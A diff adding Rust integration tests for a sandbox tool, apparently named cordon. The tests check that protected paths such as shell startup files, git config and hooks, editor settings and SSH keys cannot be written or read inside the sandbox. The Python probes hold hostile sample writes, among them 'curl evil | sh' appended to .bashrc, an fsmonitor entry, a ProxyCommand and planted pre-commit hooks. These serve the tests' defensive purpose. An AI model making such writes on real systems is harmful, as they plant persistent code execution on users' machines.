@@ -1,0 +1,378 @@
+//! What the default profile protects without being asked, tested against the real namespace
+//! layer: each write is attempted inside the sandbox, and its effect checked from outside.
+
+mod common;
+
+use std::fs;
+use std::path::Path;
+use std::process::Command;
+
+use common::{lines, stderr, Tree};
+
+/// `cordon run [pre...] -- python3 -c PROBE+script` with `dir` as the working directory.
+fn py_in(tree: &Tree, dir: &Path, pre: &[&str], script: &str) -> std::process::Output {
+    let mut cmd = tree.py_command(pre, script);
+    cmd.current_dir(dir);
+    cmd.output().expect("spawn cordon")
+}
+
+fn git(dir: &Path, args: &[&str]) {
+    let status = Command::new("git")
+        .args([
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@t",
+            "-c",
+            "init.defaultBranch=main",
+        ])
+        .args(args)
+        .current_dir(dir)
+        .env("HOME", dir)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .status()
+        .expect("git is required by these tests");
+    assert!(status.success(), "git {args:?}");
+}
+
+#[test]
+fn with_cwd_home_startup_files_are_read_only_and_credentials_hidden() {
+    require_userns!();
+    let tree = Tree::new();
+    let home = &tree.home;
+    fs::write(home.join(".bashrc"), "original bashrc\n").unwrap();
+    fs::write(home.join(".gitconfig"), "[user]\n").unwrap();
+    fs::create_dir(home.join(".ssh")).unwrap();
+    fs::write(home.join(".ssh/id_x"), "PRIVATE KEY\n").unwrap();
+    let out = py_in(
+        &tree,
+        home,
+        &[],
+        r##"
+home = os.environ["HOME"]
+print(attempt(lambda: open(home + "/.bashrc", "a").write("curl evil | sh\n")))
+print(attempt(lambda: open(home + "/.gitconfig", "w").write("[core]\nfsmonitor = evil\n")))
+print(sorted(os.listdir(home + "/.ssh")))
+print(attempt(lambda: open(home + "/.ssh/id_x").read()))
+print(attempt(lambda: open(home + "/.ssh/config", "w").write("ProxyCommand evil\n")))
+print(attempt(lambda: open(home + "/.bash_profile", "w").write("evil\n")))
+print(attempt(lambda: open(home + "/notes.txt", "w").write("kept")))
+"##,
+    );
+    assert_eq!(
+        lines(&out),
+        ["EROFS", "EROFS", "[]", "ENOENT", "EROFS", "EISDIR", "OK"],
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(out.status.code(), Some(0));
+    assert_eq!(
+        fs::read_to_string(home.join(".bashrc")).unwrap(),
+        "original bashrc\n"
+    );
+    assert_eq!(
+        fs::read_to_string(home.join(".gitconfig")).unwrap(),
+        "[user]\n"
+    );
+    assert_eq!(
+        fs::read_to_string(home.join(".ssh/id_x")).unwrap(),
+        "PRIVATE KEY\n"
+    );
+    assert!(!home.join(".ssh/config").exists());
+    // The placeholder that kept `.bash_profile` from being created is gone again.
+    assert!(!home.join(".bash_profile").exists());
+    assert_eq!(fs::read_to_string(home.join("notes.txt")).unwrap(), "kept");
+}
+
+#[test]
+fn editor_configuration_and_hooks_cannot_be_written_or_created_in_the_workspace() {
+    require_userns!();
+    let tree = Tree::new();
+    let cwd = &tree.cwd;
+    fs::create_dir(cwd.join(".vscode")).unwrap();
+    fs::write(cwd.join(".vscode/settings.json"), "{}\n").unwrap();
+    let out = tree.py(
+        &[],
+        r##"
+print(attempt(lambda: open(".vscode/settings.json", "w").write('{"evil": 1}')))
+print(attempt(lambda: open(".vscode/tasks.json", "w").write("{}")))
+print(attempt(lambda: open(".husky/pre-commit", "w").write("#!/bin/sh\nevil\n")))
+print(attempt(lambda: os.makedirs(".git/hooks")))
+print(attempt(lambda: open(".envrc", "w").write("evil\n")))
+print(attempt(lambda: open("src.txt", "w").write("work")))
+print(attempt(lambda: os.mkdir("build")))
+"##,
+    );
+    assert_eq!(
+        lines(&out),
+        ["EROFS", "EROFS", "EROFS", "EROFS", "EISDIR", "OK", "OK"],
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(
+        fs::read_to_string(cwd.join(".vscode/settings.json")).unwrap(),
+        "{}\n"
+    );
+    assert!(!cwd.join(".vscode/tasks.json").exists());
+    for planted in [".husky", ".git", ".envrc"] {
+        assert!(!cwd.join(planted).exists(), "{planted} left behind");
+    }
+    assert_eq!(fs::read_to_string(cwd.join("src.txt")).unwrap(), "work");
+    assert!(cwd.join("build").is_dir());
+}
+
+#[test]
+fn a_worktrees_gitdir_target_and_common_directory_are_read_only() {
+    require_userns!();
+    let tree = Tree::new();
+    let main = tree.cwd.join("main");
+    fs::create_dir(&main).unwrap();
+    git(&main, &["init", "-q"]);
+    git(&main, &["commit", "-q", "--allow-empty", "-m", "first"]);
+    git(&main, &["worktree", "add", "-q", "../wt"]);
+    let wt = tree.cwd.join("wt");
+    let gitdir = main.join(".git/worktrees/wt");
+    assert!(fs::read_to_string(wt.join(".git"))
+        .unwrap()
+        .starts_with("gitdir:"));
+    let head = fs::read_to_string(gitdir.join("HEAD")).unwrap();
+    // The worktree is the working directory; its parent (holding the main repository, whose
+    // `.git` is not at the top of a writable root) is writable too.
+    let workspace = tree.cwd.display().to_string();
+    let script = format!(
+        r##"
+print(attempt(lambda: open({head:?}, "w").write("ref: refs/heads/evil\n")))
+print(attempt(lambda: open({hook:?}, "w").write("#!/bin/sh\nevil\n")))
+print(attempt(lambda: open(".git", "w").write("gitdir: /tmp/evil\n")))
+print(attempt(lambda: open({file:?}, "w").write("work")))
+print(attempt(lambda: open("in-worktree.txt", "w").write("work")))
+"##,
+        head = gitdir.join("HEAD").display().to_string(),
+        hook = main.join(".git/hooks/pre-commit").display().to_string(),
+        file = main.join("file.txt").display().to_string(),
+    );
+    let out = py_in(&tree, &wt, &["-w", &workspace], &script);
+    assert_eq!(
+        lines(&out),
+        ["EROFS", "EROFS", "EROFS", "OK", "OK"],
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(fs::read_to_string(gitdir.join("HEAD")).unwrap(), head);
+    assert!(!main.join(".git/hooks/pre-commit").exists());
+    assert!(fs::read_to_string(wt.join(".git"))
+        .unwrap()
+        .starts_with("gitdir:"));
+    assert_eq!(fs::read_to_string(main.join("file.txt")).unwrap(), "work");
+    assert_eq!(
+        fs::read_to_string(wt.join("in-worktree.txt")).unwrap(),
+        "work"
+    );
+}
+
+fn profile(tree: &Tree, text: &str) -> String {
+    let path = tree.root.join("profile.toml");
+    fs::write(&path, text).unwrap();
+    path.display().to_string()
+}
+
+#[test]
+fn unprotect_lifts_exactly_the_entry_it_names() {
+    require_userns!();
+    let tree = Tree::new();
+    let cwd = &tree.cwd;
+    for dir in [".vscode", ".idea"] {
+        fs::create_dir(cwd.join(dir)).unwrap();
+        fs::write(cwd.join(dir).join("settings"), "original").unwrap();
+    }
+    let p = profile(
+        &tree,
+        "extends = \"workspace-write\"\n[filesystem]\nunprotect = [\".vscode\"]\n",
+    );
+    let out = tree.py(
+        &["-p", &p],
+        r##"
+print(attempt(lambda: open(".vscode/settings", "w").write("changed")))
+print(attempt(lambda: open(".idea/settings", "w").write("changed")))
+"##,
+    );
+    assert_eq!(lines(&out), ["OK", "EROFS"], "{}", stderr(&out));
+    assert_eq!(
+        fs::read_to_string(cwd.join(".vscode/settings")).unwrap(),
+        "changed"
+    );
+    assert_eq!(
+        fs::read_to_string(cwd.join(".idea/settings")).unwrap(),
+        "original"
+    );
+    // --print-policy shows the result.
+    let out = tree.run(&["-p", &p, "--print-policy"]);
+    let policy: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let read_only = policy["filesystem"]["read_only"].to_string();
+    assert!(!read_only.contains(".vscode"), "{read_only}");
+    assert!(
+        read_only.contains(&format!("{}/.idea", cwd.display())),
+        "{read_only}"
+    );
+}
+
+#[test]
+fn lifting_what_is_not_protected_is_an_error_naming_it() {
+    let tree = Tree::new();
+    for (text, named) in [
+        (
+            "extends = \"workspace-write\"\n[filesystem]\nunprotect = [\"~/.nothing\"]\n",
+            "\"~/.nothing\"",
+        ),
+        (
+            "extends = \"read-only\"\n[filesystem]\nunprotect = [\"~/.ssh\"]\n",
+            "\"~/.ssh\"",
+        ),
+    ] {
+        let p = profile(&tree, text);
+        let out = tree.run(&["-p", &p, "--", "touch", "ran"]);
+        assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
+        let err = stderr(&out);
+        assert_eq!(err.lines().count(), 1, "{err}");
+        assert!(
+            err.contains("filesystem.unprotect") && err.contains(named),
+            "{err}"
+        );
+        assert!(!tree.cwd.join("ran").exists());
+    }
+}
+
+#[test]
+fn a_protected_path_through_a_link_in_a_writable_root_is_refused() {
+    let tree = Tree::new();
+    let real = tree.outside.join("dotgit");
+    fs::create_dir(&real).unwrap();
+    std::os::unix::fs::symlink(&real, tree.cwd.join(".git")).unwrap();
+    let out = tree.run(&["--", "touch", "ran"]);
+    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
+    let err = stderr(&out);
+    assert!(
+        err.contains("protected .git") && err.contains("unprotect"),
+        "{err}"
+    );
+    assert!(!tree.cwd.join("ran").exists());
+    // Harmless counterpart: without the link the same run works.
+    fs::remove_file(tree.cwd.join(".git")).unwrap();
+    let out = tree.run(&["--", "touch", "ran"]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(tree.cwd.join("ran").exists());
+}
+
+#[test]
+fn without_user_namespaces_the_protections_are_reported_downgrades() {
+    let tree = Tree::new();
+    fs::create_dir(tree.cwd.join(".vscode")).unwrap();
+    fs::write(tree.cwd.join(".vscode/settings.json"), "{}").unwrap();
+    let mut cmd = tree.cordon();
+    cmd.current_dir(&tree.cwd).args([
+        "run",
+        "--json",
+        "--",
+        "sh",
+        "-c",
+        "echo changed > .vscode/settings.json",
+    ]);
+    let out = common::without_userns(&cmd).output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let value: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let downgrades = value["sandbox"]["downgrades"].to_string();
+    for entry in [".vscode", ".git", ".husky"] {
+        let expected = format!("read_only:{}", tree.cwd.join(entry).display());
+        assert!(downgrades.contains(&expected), "{expected} not in {value}");
+    }
+    assert!(!value["sandbox"]["layers"].to_string().contains("namespace"));
+    // The downgrade is real: Landlock alone cannot keep the file from being written.
+    assert_eq!(
+        fs::read_to_string(tree.cwd.join(".vscode/settings.json")).unwrap(),
+        "changed\n"
+    );
+}
+
+#[test]
+fn git_still_works_where_the_placeholder_stands_in_for_a_missing_git() {
+    require_userns!();
+    let tree = Tree::new();
+    git(&tree.cwd, &["init", "-q"]);
+    fs::write(tree.cwd.join("tracked.txt"), "v1\n").unwrap();
+    git(&tree.cwd, &["add", "tracked.txt"]);
+    git(&tree.cwd, &["commit", "-q", "-m", "first"]);
+    let sub = tree.cwd.join("sub");
+    fs::create_dir(&sub).unwrap();
+    // In `sub` (the only writable root) `sub/.git` is protected: an empty placeholder, which
+    // git passes over on its way up to the real repository.
+    let mut cmd = tree.cordon();
+    cmd.current_dir(&sub).args([
+        "run",
+        "--",
+        "sh",
+        "-c",
+        "test -d .git && git rev-parse --show-toplevel && git log --format=%s",
+    ]);
+    let out = cmd.output().unwrap();
+    assert_eq!(
+        lines(&out),
+        [tree.cwd.display().to_string(), "first".to_owned()],
+        "{}",
+        stderr(&out)
+    );
+    assert!(!sub.join(".git").exists(), "placeholder left behind");
+}
+
+#[test]
+fn the_hooks_path_and_submodule_git_files_the_repository_names_are_read_only() {
+    require_userns!();
+    let tree = Tree::new();
+    let cwd = &tree.cwd;
+    fs::create_dir_all(cwd.join(".git/modules/lib")).unwrap();
+    fs::write(
+        cwd.join(".git/config"),
+        "[core]\n\tbare = false\n\thooksPath = \"scripts/hooks\"\n",
+    )
+    .unwrap();
+    fs::create_dir_all(cwd.join("scripts/hooks")).unwrap();
+    fs::write(
+        cwd.join(".gitmodules"),
+        "[submodule \"lib\"]\n\tpath = vendor/lib\n\turl = https://example.invalid/lib\n",
+    )
+    .unwrap();
+    fs::create_dir_all(cwd.join("vendor/lib")).unwrap();
+    fs::write(
+        cwd.join("vendor/lib/.git"),
+        "gitdir: ../../.git/modules/lib\n",
+    )
+    .unwrap();
+    let out = tree.py(
+        &[],
+        r##"
+print(attempt(lambda: open("scripts/hooks/pre-commit", "w").write("#!/bin/sh\nevil\n")))
+print(attempt(lambda: open("vendor/lib/.git", "w").write("gitdir: /tmp/evil\n")))
+print(attempt(lambda: os.rename("vendor/lib", "vendor/moved")))
+print(attempt(lambda: open("scripts/build.sh", "w").write("work")))
+print(attempt(lambda: open("vendor/lib/code.c", "w").write("work")))
+"##,
+    );
+    assert_eq!(
+        lines(&out),
+        ["EROFS", "EROFS", "EBUSY", "OK", "OK"],
+        "{}",
+        stderr(&out)
+    );
+    assert!(!cwd.join("scripts/hooks/pre-commit").exists());
+    assert_eq!(
+        fs::read_to_string(cwd.join("vendor/lib/.git")).unwrap(),
+        "gitdir: ../../.git/modules/lib\n"
+    );
+    assert_eq!(
+        fs::read_to_string(cwd.join("scripts/build.sh")).unwrap(),
+        "work"
+    );
+    assert_eq!(
+        fs::read_to_string(cwd.join("vendor/lib/code.c")).unwrap(),
+        "work"
+    );
+}
